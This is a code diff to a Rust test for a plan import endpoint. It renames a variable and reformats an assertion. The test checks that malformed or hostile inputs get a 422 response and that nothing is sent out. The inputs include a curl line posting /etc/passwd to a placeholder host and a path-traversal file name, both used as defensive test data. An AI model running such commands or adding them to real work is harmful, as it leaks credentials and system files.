@@ -185,7 +185,7 @@ fn plan_import_contains_no_secret_and_sends_nothing() {
         }
     }
     // Input that cannot be read is answered with a message, beside the input.
-    for (kind, text, said) in [
+    for (kind, text, output) in [
         ("curl", "curl -d @/etc/passwd http://h/", "not read here"),
         ("har", "{", "Failed to"),
         ("loadgen", "{\"../../x/jobs/a.json\": \"{}\"}", "Failed to"),
@@ -197,7 +197,10 @@ fn plan_import_contains_no_secret_and_sends_nothing() {
     ] {
         let fields = format!("kind={kind}&text={}", encoded(text));
         let (head, body) = visitor.send("/plans/import", "/plans/import", &fields);
-        assert!(head.starts_with("HTTP/1.1 422") && body.contains(said), "{text}: {head}\n{body}");
+        assert!(
+            head.starts_with("HTTP/1.1 422") && body.contains(output),
+            "{text}: {head}\n{body}"
+        );
     }
     assert!(silent.accept().is_err(), "something was sent");
     end(program);
